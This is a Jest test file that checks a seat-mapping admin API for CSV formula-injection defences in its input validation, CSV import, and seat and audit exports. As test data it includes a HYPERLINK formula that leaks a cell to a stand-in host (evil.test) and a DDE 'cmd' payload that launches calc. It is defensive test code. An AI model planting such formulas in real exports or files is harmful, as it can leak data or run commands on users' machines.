// CSV formula injection (OWASP): no exported cell can run as a formula in Excel, LibreOffice or WPS;
// an exported seats file imports back to the same mappings; identifiers that begin like a formula
// are refused at input, through the API and through a CSV import.
import { parse } from 'csv-parse/sync';
import {
  bearer,
  createTcccApp,
  createTenant,
  login,
  PLATFORM_ADMIN,
  startTestApp,
  type TestApp,
} from './support/app';

const FORMULA = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"click")';

describe('CSV formula injection', () => {
  let t: TestApp;
  let token: string;
  let tenantId: string;
  let sdkAppId: number;

  beforeAll(async () => {
    t = await startTestApp();
    token = await login(t, PLATFORM_ADMIN.email, PLATFORM_ADMIN.password);
    tenantId = (await createTenant(t, token)).id;
    sdkAppId = (await createTcccApp(t, token, tenantId)).sdkAppId;
  });
  afterAll(() => t.close());

  const seats = () => `/api/admin/tenants/${tenantId}/seats`;

  function expectNoFormulaCell(csv: string): string[][] {
    const rows = parse(csv) as string[][];
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA);
    return rows;
  }

  it('refuses business user ids and seat ids that begin like a formula (API and CSV import)', async () => {
    for (const businessUserId of ['=1+2', '+1', '-1', '@SUM(A1)', HYPERLINK]) {
      const response = await t.http
        .post(seats())
        .set(bearer(token))
        .send({ businessUserId, sdkAppId, seatUserId: 'fine@corp.test' });
      expect(response.status).toBe(400);
      expect(response.body.details.issues[0].path).toBe('businessUserId');
    }
    for (const seatUserId of ['=a@b.c', '+a@b.c', '-a@b.c']) {
      const response = await t.http
        .post(seats())
        .set(bearer(token))
        .send({ businessUserId: 'crm-ok', sdkAppId, seatUserId });
      expect(response.status).toBe(400);
      expect(response.body.details.issues[0].path).toBe('seatUserId');
    }
    const csv = [
      'businessUserId,sdkAppId,seatUserId,displayName',
      `"=cmd|' /C calc'!A0",${sdkAppId},a1@corp.test,x`,
      `crm-2,${sdkAppId},-a2@corp.test,y`,
    ].join('\r\n');
    const imported = await t.http
      .post(`${seats()}/import`)
      .set(bearer(token))
      .set('Content-Type', 'text/csv')
      .send(csv);
    expect(imported.status).toBe(422);
    expect(imported.body.details.errors).toEqual([
      { line: 2, reason: expect.stringContaining('businessUserId') },
      { line: 3, reason: expect.stringContaining('seatUserId') },
    ]);
    expect((await t.sql.query('SELECT count(*)::int AS n FROM seat_mappings')).rows[0].n).toBe(0);
  });

  it('the seats export neutralises formula cells and imports back to the same mappings', async () => {
    const mappings = [
      { businessUserId: 'crm-10', seatUserId: 'a10@corp.test', displayName: HYPERLINK },
      { businessUserId: 'crm-11', seatUserId: 'a11@corp.test', displayName: '+49 30 1234' },
      { businessUserId: 'crm-12', seatUserId: 'a12@corp.test', displayName: "'quoted already" },
      { businessUserId: 'crm-13', seatUserId: 'a13@corp.test', displayName: '@home' },
      { businessUserId: 'crm-14', seatUserId: 'a14@corp.test', displayName: 'plain, "with" commas' },
    ];
    for (const mapping of mappings)
      await t.http
        .post(seats())
        .set(bearer(token))
        .send({ ...mapping, sdkAppId })
        .expect(201);
    const disabled = await t.http.get(`${seats()}?q=crm-13`).set(bearer(token)).expect(200);
    await t.http
      .patch(`${seats()}/${disabled.body.items[0].id as string}`)
      .set(bearer(token))
      .send({ status: 'disabled' })
      .expect(200);

    const snapshot = async () =>
      (
        await t.sql.query(
          `SELECT business_user_id, seat_user_id, display_name, status FROM seat_mappings WHERE tenant_id = $1 ORDER BY business_user_id`,
          [tenantId],
        )
      ).rows;
    const before = await snapshot();
    const exported = await t.http.get(`${seats()}/export`).set(bearer(token)).expect(200);
    const rows = expectNoFormulaCell(exported.text);
    // the provisioning columns (provision, staffNumber, phone, role, skillGroups) are empty for these
    expect(rows).toContainEqual([
      'crm-10',
      String(sdkAppId),
      'a10@corp.test',
      `'${HYPERLINK}`,
      'enabled',
      '',
      '',
      '',
      '',
      '',
    ]);
    // quoted as a whole, so no spreadsheet splits it or reads past the protective quote
    expect(exported.text).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""click"")"`);

    await t.sql.query('DELETE FROM seat_mappings WHERE tenant_id = $1', [tenantId]);
    const reimported = await t.http
      .post(`${seats()}/import`)
      .set(bearer(token))
      .attach('file', Buffer.from(exported.text), 'seats.csv')
      .expect(200);
    expect(reimported.body).toMatchObject({ created: mappings.length, unchanged: 0 });
    expect(await snapshot()).toEqual(before);
  });

  it('the audit export neutralises what an anonymous caller put in the User-Agent', async () => {
    await t.http
      .post('/api/auth/login')
      .set('User-Agent', HYPERLINK)
      .send({ email: 'nobody@seatgate.test', password: 'wrong-password-1' })
      .expect(401);
    await t.http
      .post('/api/auth/login')
      .set('User-Agent', '-2+3')
      .send({ email: 'nobody@seatgate.test', password: 'wrong-password-2' })
      .expect(401);
    const exported = await t.http.get('/api/admin/audit/export').set(bearer(token)).expect(200);
    const rows = expectNoFormulaCell(exported.text);
    const userAgent = rows[0]!.indexOf('userAgent');
    const agents = rows.slice(1).map((row) => row[userAgent]);
    expect(agents).toEqual(expect.arrayContaining([`'${HYPERLINK}`, "'-2+3"]));
  });
});
